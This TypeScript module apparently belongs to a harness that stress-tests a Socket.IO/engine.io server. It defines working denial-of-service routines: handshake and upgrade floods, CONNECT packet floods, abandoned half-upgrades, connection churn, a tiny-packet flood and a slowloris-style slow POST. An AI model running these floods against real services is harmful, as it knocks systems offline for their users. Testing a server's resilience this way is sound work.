// Session starts: engine.io handshakes, upgrades and Socket.IO connects, most of which never become a connection.

import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, attack, type Budget, type Target } from '../attack.ts'
import { newCustomer, newCustomers } from '../wire/accounts.ts'
import { polling, withPollingSession } from '../wire/polling.ts'
import { closed, get, openTcp, pipeline, repeatedly } from '../wire/raw-socket.ts'
import { frame, keepOpen, openWebSocket, times, upgradeRequest } from '../wire/web-socket.ts'
import { floodFrames } from './control-frames.ts'

/** One upgrade per connection, kept open for `keepMs`. */
async function upgrade(target: Target, budget: Budget, query: string | undefined, keepMs: number): Promise<void> {
  budget.count('connections')
  budget.count('requests')
  const socket = await openTcp(target, target.address())
  socket.on('data', (piece) => {
    if (piece.includes(' 101 ')) budget.count('upgrades')
    else if (piece.includes('HTTP/1.1 4') || piece.includes('HTTP/1.1 5')) budget.count('refusals')
  })
  socket.write(upgradeRequest(target, query))
  await Promise.race([closed(socket), sleep(keepMs), budget.over])
  if (socket.destroyed && !budget.isOver()) budget.count('cuts')
  socket.destroy()
}

export const handshakes: Attack[] = [
  attack({
    name: 'polling-handshakes',
    ids: ['S2'],
    what: '64 connections pipeline handshakes of polling sessions without a token',
    floor: { requests: 14_000 },
    run: (target, budget) =>
      pipeline(target, budget, {
        connections: 64,
        perWrite: 32,
        inFlight: 10_000,
        request: () => get(target, polling),
        onData: (text) => budget.count('sessions', text.split('"sid"').length - 1),
      }),
  }),
  attack({
    name: 'polling-handshakes-by-page',
    ids: ['S2'],
    what: 'handshakes with the browser headers of a page of another origin',
    floor: { requests: 500 },
    run: (target, budget) =>
      pipeline(target, budget, {
        connections: 16,
        request: (_, n) => get(target, `${polling}&t=${n}`, 'Sec-Fetch-Site: cross-site', 'Sec-Fetch-Mode: no-cors'),
      }),
  }),
  attack({
    name: 'polling-handshakes-of-200',
    ids: ['S2'],
    what: '200 addresses alternate with handshakes of polling sessions',
    floor: { requests: 1_000 },
    run: (target, budget) =>
      pipeline(target, budget, {
        connections: 200,
        perWrite: 8,
        from: (index) => target.address(index),
        request: () => get(target, polling),
      }),
  }),
  attack({
    name: 'upgrade-storm',
    ids: ['S2', 'new'],
    what: '100 connections at a time upgrade to WebSocket and disconnect',
    floor: { connections: 100 },
    run: (target, budget) => repeatedly(budget, 100, () => upgrade(target, budget, undefined, 20)),
  }),
  attack({
    name: 'sessions-without-token',
    ids: ['S2', 'S29'],
    what: '2,000 WebSockets without a token stay as long as allowed',
    floor: { connections: 50 },
    run: (target, budget) => repeatedly(budget, 2_000, () => upgrade(target, budget, undefined, 60_000)),
  }),
  attack({
    name: 'upgrades-of-no-session',
    ids: ['S2', 'new'],
    what: 'upgrades of polling sessions that do not exist',
    floor: { connections: 100 },
    run: (target, budget) =>
      repeatedly(budget, 50, (_, n) => upgrade(target, budget, `EIO=4&transport=websocket&sid=none${n}`, 50)),
  }),
  attack({
    name: 'half-upgrades',
    ids: ['S2', 'new'],
    what: 'polling sessions that start an upgrade, ping and never finish it',
    floor: { connections: 20 },
    run: (target, budget) =>
      repeatedly(budget, 50, async () => {
        budget.count('connections', 2)
        budget.count('requests', 2)
        const first = await openTcp(target, target.address())
        const answer = await new Promise<string>((resolve, reject) => {
          first.once('data', (piece) => resolve(piece.toString('latin1')))
          first.once('close', () => reject(new Error('closed')))
          first.write(get(target, polling))
        }).finally(() => first.destroy())
        const sid = /"sid":"([^"]+)"/.exec(answer)?.[1]
        if (sid === undefined) {
          budget.count('refusals')
          return await sleep(5)
        }
        const second = await openTcp(target, target.address())
        second.write(upgradeRequest(target, `EIO=4&transport=websocket&sid=${sid}`))
        await sleep(20)
        const probe = times(200, frame('text', '2probe'))
        for (let n = 0; n < 50 && !second.destroyed && !budget.isOver(); n++) {
          budget.count('requests', 200)
          second.write(probe)
          await sleep(10)
        }
        if (second.destroyed) budget.count('cuts')
        second.destroy()
      }),
  }),
  attack({
    name: 'wrong-tokens',
    ids: ['S2', 'new'],
    what: 'CONNECT packets with wrong tokens, all on one WebSocket',
    floor: { requests: 1_000 },
    run: (target, budget) =>
      floodFrames(target, budget, {
        frames: times(200, frame('text', `40${JSON.stringify({ token: `a.${'b'.repeat(200)}.c` })}`)),
        count: 200,
      }),
  }),
  attack({
    name: 'connect-packets',
    ids: ['new'],
    what: 'CONNECT packets with a valid token, all on one WebSocket: connect, disconnect, connect',
    floor: { requests: 500 },
    prepare: newCustomer,
    run: (target, budget, { token }) =>
      floodFrames(target, budget, {
        frames: times(100, Buffer.concat([frame('text', `40${JSON.stringify({ token })}`), frame('text', '41')])),
        count: 200,
      }),
  }),
  attack({
    name: 'namespaces',
    ids: ['new'],
    what: 'CONNECT packets to a thousand namespaces that do not exist',
    floor: { requests: 5_000 },
    run: (target, budget) => {
      const packets = Array.from({ length: 1_000 }, (_, n) => frame('text', `40/${n}-${'x'.repeat(50)},{}`))
      return floodFrames(target, budget, { connections: 2, frames: Buffer.concat(packets), count: 1_000 })
    },
  }),
  attack({
    name: 'binary-packets',
    ids: ['new'],
    what: 'a customer announces binary parts and never sends them, or sends unannounced ones',
    floor: { requests: 1_000 },
    prepare: newCustomer,
    run: (target, budget, { token }) => {
      const part = Buffer.concat([
        frame('text', '451-["typing:set",{"_placeholder":true,"num":0}]'),
        frame('binary', Buffer.alloc(1_000)),
        frame('binary', Buffer.alloc(10)),
      ])
      return floodFrames(target, budget, { connections: 4, frames: times(20, part), count: 60, token })
    },
  }),
  attack({
    name: 'reconnects',
    ids: ['new'],
    what: 'five customers connect with valid tokens and disconnect, repeatedly',
    floor: { connections: 30 },
    prepare: (target) => newCustomers(target, 5),
    run: (target, budget, customers) =>
      repeatedly(budget, 20, async (index) => {
        budget.count('connections')
        const token = customers[index % 5]?.token as string
        const raw = await openWebSocket(target, { token }).catch((error: unknown) => {
          budget.count('refusals')
          throw error
        })
        budget.count('connected')
        raw.end()
      }),
  }),
  attack({
    name: 'connections-of-one-customer',
    ids: ['S4', 'new'],
    what: 'one customer keeps 400 connections open',
    floor: { connections: 5 },
    prepare: newCustomer,
    run: (target, budget, { token }) => keepOpen(target, budget, 400, { tokens: [token] }),
  }),
  attack({
    name: 'connection-churn',
    ids: ['new'],
    what: 'TCP connections are opened and reset',
    floor: { connections: 300 },
    run: (target, budget) =>
      repeatedly(budget, 50, async () => {
        budget.count('connections')
        const socket = await openTcp(target, target.address())
        socket.resetAndDestroy()
      }),
  }),
  attack({
    name: 'polling-tiny-packets',
    ids: ['S6'],
    what: 'a customer posts 14,000 tiny packets in one request of a polling session',
    floor: { bytes: 50_000 },
    prepare: newCustomer,
    run: (target, budget, { token }) =>
      repeatedly(budget, 2, () =>
        withPollingSession(target, budget, token, async (send) => {
          const packets = Array.from({ length: 14_000 }, () => '42["a"]').join('\x1e')
          while (!budget.isOver() && (await send(packets))) budget.count('requests')
        }),
      ),
  }),
  attack({
    name: 'polling-slow-post',
    ids: ['new'],
    what: 'the body of a polling POST arrives one byte a second, on 100 sessions',
    floor: { connections: 2 },
    prepare: newCustomer,
    run: (target, budget, { token }) =>
      repeatedly(budget, 100, () =>
        withPollingSession(target, budget, token, async (_, path) => {
          const socket = await openTcp(target, target.address())
          socket.write(
            `POST ${path} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n`,
          )
          while (!socket.destroyed && !budget.isOver()) {
            socket.write('4')
            budget.count('bytes')
            await Promise.race([sleep(1_000), budget.over])
          }
          if (!budget.isOver()) budget.count('cuts')
          socket.destroy()
        }),
      ),
  }),
]
